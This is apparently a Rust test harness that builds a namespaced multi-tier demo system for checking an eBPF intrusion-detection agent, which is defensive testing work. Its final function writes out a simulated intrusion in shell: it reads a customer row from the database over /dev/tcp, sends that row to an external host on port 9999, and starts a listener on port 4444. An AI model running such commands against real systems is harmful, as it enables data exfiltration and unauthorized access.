//! The demo system: an internet client, the web, api and db tiers and an undeclared host, each in
//! a network namespace of its own, the tiers in cgroups of their own, watched by the agent.
//! `cargo xtask demo` shows it to a person, and the end-to-end tests learn a model from it.

use std::net::Ipv4Addr;
use std::path::Path;
use std::process::Command;
use std::time::Duration;

use crate::{spawn_in, AgentUnderTest, Cgroup, ProcessGuard, Topology};

/// Host addresses, all in 198.18.0.0/15, the range RFC 2544 reserves for benchmarking. They must
/// match the zones in demo/model.yaml.
pub struct Addresses {
    pub client: Ipv4Addr,
    pub web: Ipv4Addr,
    pub api: Ipv4Addr,
    pub db: Ipv4Addr,
    pub ext: Ipv4Addr,
}

pub const ADDRESSES: Addresses = Addresses {
    client: Ipv4Addr::new(198, 18, 1, 10),
    web: Ipv4Addr::new(198, 18, 2, 10),
    api: Ipv4Addr::new(198, 18, 3, 10),
    db: Ipv4Addr::new(198, 18, 4, 10),
    ext: Ipv4Addr::new(198, 19, 0, 10),
};

/// How long a service may take to print its `listening` line.
const LISTEN_TIMEOUT: Duration = Duration::from_secs(10);

/// The running demo system. Fields drop in declaration order after [`Drop::drop`] has killed the
/// processes, so the agent stops before the cgroups and namespaces go.
pub struct DemoSystem {
    services: Vec<(&'static str, ProcessGuard)>,
    pub agent: AgentUnderTest,
    tiers: Vec<Cgroup>,
    root: Cgroup,
    pub topology: Topology,
}

impl DemoSystem {
    /// Creates the hosts and the cgroups `cgroup/{web,api,db}`, starts the agent on `model`
    /// scoped to `cgroup` with `agent_args` appended, then the services. Namespace names start
    /// with `dw`, then `tag`.
    ///
    /// On error, everything created so far is removed again as the locals drop.
    pub fn start(
        agent_bin: &Path,
        service_bin: &Path,
        model: &Path,
        cgroup: &str,
        tag: &str,
        agent_args: &[&str],
    ) -> anyhow::Result<DemoSystem> {
        println!("creating the hosts: network namespaces joined by a router namespace");
        let mut topology = Topology::tagged(tag)?;
        for (name, ipv4, ipv6) in [
            ("client", ADDRESSES.client, "fd00:d5:1::10/64"),
            ("web", ADDRESSES.web, "fd00:d5:2::10/64"),
            ("api", ADDRESSES.api, "fd00:d5:3::10/64"),
            ("db", ADDRESSES.db, "fd00:d5:4::10/64"),
            ("ext", ADDRESSES.ext, "fd00:d5:9::10/64"),
        ] {
            let host = topology.add_host(name, &format!("{ipv4}/24"), ipv6)?;
            println!(
                "  {:<7} {:<13} netns {}",
                name,
                ipv4.to_string(),
                host.netns.name()
            );
        }

        let root = Cgroup::create_replacing_stale(cgroup)?;
        let tiers = ["web", "api", "db"]
            .into_iter()
            .map(|tier| root.child(tier))
            .collect::<Result<Vec<_>, _>>()?;
        println!(
            "created the cgroups {cgroup}/{{web,api,db}} under {}",
            crate::cgroup2_mount()?.display()
        );

        println!(
            "starting the agent on {} (first start loads and attaches the eBPF programs)",
            model.display()
        );
        let agent = AgentUnderTest::start_with(agent_bin, model, root.path(), agent_args)?;
        println!(
            "the agent is ready; its API listens on {}",
            agent.api_addr()
        );

        let mut system = DemoSystem {
            services: Vec::new(),
            agent,
            tiers,
            root,
            topology,
        };
        let db = format!("{}:5432", ADDRESSES.db);
        let api = format!("{}:8081", ADDRESSES.api);
        system.start_service(
            service_bin,
            "db",
            Some(2),
            &["db", "--listen", "0.0.0.0:5432"],
        )?;
        system.start_service(
            service_bin,
            "api",
            Some(1),
            &["api", "--listen", "0.0.0.0:8081", "--upstream", &db],
        )?;
        system.start_service(
            service_bin,
            "web",
            Some(0),
            &["web", "--listen", "0.0.0.0:8080", "--upstream", &api],
        )?;
        system.start_service(
            service_bin,
            "ext",
            None,
            &["sink", "--listen", "0.0.0.0:9999"],
        )?;
        Ok(system)
    }

    /// Starts a listening service on `host`, in tier cgroup `tier` when given, and waits until it listens.
    fn start_service(
        &mut self,
        bin: &Path,
        host: &'static str,
        tier: Option<usize>,
        args: &[&str],
    ) -> anyhow::Result<()> {
        let mut command = Command::new(bin);
        command.args(args);
        let cgroup = tier.map(|index| &self.tiers[index]);
        let process = spawn_in(Some(&self.topology.host(host).netns), cgroup, command)?;
        let line = process.wait_for_line(LISTEN_TIMEOUT, |line| line.starts_with("listening"))?;
        let place = cgroup.map_or("outside the observed cgroup".to_string(), |c| {
            format!("cgroup {}", c.relative_path())
        });
        println!("  {host:<7} pid {:<7} {line} ({place})", process.pid());
        self.services.push((host, process));
        Ok(())
    }

    /// Starts the demo client in the internet host, outside the observed cgroup.
    pub fn client(&self, bin: &Path, args: &[&str]) -> anyhow::Result<ProcessGuard> {
        let mut command = Command::new(bin);
        command
            .args(["client", "--target", &format!("{}:8080", ADDRESSES.web)])
            .args(args);
        spawn_in(Some(&self.topology.host("client").netns), None, command)
    }

    /// Keeps the agent's log on disk and returns its path.
    pub fn keep_agent_log(&mut self) -> std::path::PathBuf {
        self.agent.keep_logs()
    }

    /// Describes what dropping the system removes; call it before the drop.
    pub fn cleanup_summary(&self) -> String {
        let namespaces: Vec<&str> = std::iter::once(self.topology.router().name())
            .chain(self.topology.hosts().iter().map(|host| host.netns.name()))
            .collect();
        format!(
            "cleaned up: stopped the services and the agent (pid {}); the kernel \
             detached the agent's eBPF programs when it exited; removed the cgroups {}/{{web,api,db}} \
             and the network namespaces {}",
            self.agent.pid(),
            self.root.relative_path(),
            namespaces.join(", ")
        )
    }

    pub fn services(&self) -> impl Iterator<Item = (&str, u32)> {
        self.services
            .iter()
            .map(|(name, process)| (*name, process.pid()))
    }
}

impl Drop for DemoSystem {
    fn drop(&mut self) {
        self.services.clear();
        // What the intrusion started (the listener) descends from the web service, not from us,
        // so only the cgroup still lists it.
        let cgroup = self.root.relative_path().to_string();
        match self.root.kill_remaining() {
            Ok(pids) if !pids.is_empty() => {
                println!("stopped the processes left in {cgroup}: pids {pids:?}")
            }
            Ok(_) => {}
            Err(error) => {
                eprintln!("warning: failed to list the processes left in {cgroup}: {error:#}")
            }
        }
        self.agent.stop();
    }
}

/// Returns the shell commands the intrusion runs as the web tier: straight to the database, out to
/// a host the model does not know, and a listener of its own on port 4444.
pub fn intrusion_command(service_bin: &Path) -> String {
    let db = ADDRESSES.db;
    let ext = ADDRESSES.ext;
    format!(
        "exec 3<>/dev/tcp/{db}/5432; echo 'GET customers' >&3; read -r row <&3; exec 3>&-; \
         echo \"db answered: $row\"; \
         exec 4<>/dev/tcp/{ext}/9999; echo \"$row\" >&4; exec 4>&-; echo 'sent the row to {ext}:9999'; \
         {} sink --listen 0.0.0.0:4444 --lifetime 3600 >/dev/null 2>&1 & \
         echo 'started a listener on port 4444'",
        service_bin.display()
    )
}
